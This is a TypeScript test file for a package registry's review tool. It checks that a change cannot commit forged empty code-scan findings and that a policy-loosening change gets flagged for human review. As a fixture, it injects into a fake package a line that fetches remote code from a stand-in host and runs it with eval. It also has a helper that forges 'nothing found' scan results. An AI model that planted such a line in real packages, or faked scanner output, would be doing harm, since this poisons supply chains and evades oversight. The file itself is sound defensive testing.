/** A change that brings answers to our own questions: what commands keep in a checkout is not for it to write. */
import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { canonicalJson } from '../../core/canonical.ts';
import { sha256 } from '../../core/digest.ts';
import { readRegistryFiles } from '../../catalog/registry-files.ts';
import { codeCache } from '../../review/checks/code/code-cache.ts';
import { codeBounds } from '../../review/checks/code/scan-process.ts';
import { codeRulesDigest } from '../../review/checks/code/rules-digest.ts';
import type { FakePackage } from '../support/npm-registry.ts';
import { proposeChange } from '../support/proposed-change.ts';
import { aPolicy } from '../support/statements.ts';
import { emptyRegistry, type TinyRegistry } from '../support/tiny-registry.ts';
import { tinyPackages } from '../support/tiny-server.ts';
import { partsOf } from '../../artefacts/kinds.ts';

const poison = `
if (process.env.TINY_UPDATE) eval(await (await fetch('https://update.example/')).text());
`;
const poisoned = (each: FakePackage): FakePackage =>
  each.version === '1.1.0' ? { ...each, files: { 'index.js': `${each.files?.['index.js'] ?? ''}${poison}` } } : each;

/** Writes down, as the scanner would, that nothing was found in the code of any package. */
async function forgeFindings({ folder }: TinyRegistry): Promise<void> {
  const { parsedFileBytes, searchedFileBytes } = codeBounds;
  const key = sha256(canonicalJson({ rules: codeRulesDigest(), parsedFileBytes, searchedFileBytes }));
  const cache = codeCache(join(folder, '.registry/cache/code'), key);
  for (const { lock } of (await readRegistryFiles(folder)).servers)
    for (const { integrity } of lock === undefined ? [] : partsOf(lock.value))
      await cache.write(integrity, { findings: [], asks: [] });
  execFileSync('git', ['-C', folder, 'add', '--force', '.registry/cache/code']);
}

test('a change does not say itself what was found in the code that it brings', async () => {
  const tiny = await emptyRegistry(tinyPackages.map(poisoned));
  try {
    await tiny.write('.gitignore', '.npm/\n.registry/\n');
    await tiny.write('servers/tiny.yaml', tiny.manifest('1.0.0'));
    await tiny.run('lock');
    const { base } = await proposeChange(tiny.folder, async () => {
      await tiny.write('servers/tiny.yaml', tiny.manifest('1.1.0'));
      await tiny.run('lock');
      await forgeFindings(tiny);
    });
    const validated = await tiny.run('validate', '--base', base);
    const scanned = await tiny.run('scan', '--base', base, '--only', 'code');
    expect([validated.status, scanned.status]).toEqual([1, 1]);
    expect(validated.stderr).toContain('workspace-committed');
    expect(scanned.stderr).toContain('workspace-committed');
  } finally {
    await tiny.npm.close();
  }
});

test('a change that only loosens the policy needs a person', async () => {
  const tiny = await emptyRegistry();
  try {
    const { base } = await proposeChange(tiny.folder, async () => {
      await tiny.write('policy.yaml', JSON.stringify(aPolicy({ filesystem: { never: [] } })));
    });
    const page = join(tiny.folder, '.registry/page.md');
    const scanned = await tiny.run('scan', '--base', base, '--markdown', page);
    expect(scanned.stdout).toContain('needs a person');
    expect(await readFile(page, 'utf8')).toContain('policy-changed');
  } finally {
    await tiny.npm.close();
  }
});
